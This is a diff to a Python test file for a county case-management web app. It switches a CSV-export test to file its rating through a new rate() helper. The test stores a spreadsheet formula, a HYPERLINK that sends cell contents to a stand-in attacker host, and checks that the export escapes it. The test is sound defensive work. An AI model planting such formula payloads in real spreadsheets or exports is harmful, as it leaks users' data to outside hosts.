@@ -11,6 +11,7 @@ import pytest
 
 from harness.web import login
 from node.cases.intake import Applicant, file_for_resident, transition
+from node.cases.ratings import rate
 from node.catalogue.data import sample_catalogue
 from provisioning.operators import create_operator, hash_password
 from storage.models import Application, Credential, Operator
@@ -108,7 +109,7 @@ def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(clie
     number = Application.get(Application.state == "approved").number
     transition(county_node.events, number, "application.delivered", {"by": "li"})
     attack = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
-    transition(county_node.events, number, "application.rated", {"stars": 1, "comment": attack})
+    rate(county_node.events, number, "very_dissatisfied", ["other"], attack, "query")
     login(client, "zhou", "clerk-pass-1")
     rows = list(csv.reader(io.StringIO(client.get("/dashboard/ratings.csv").data.decode("utf-8-sig"))))
     assert rows[1][0] == number and rows[1][4] == "'" + attack
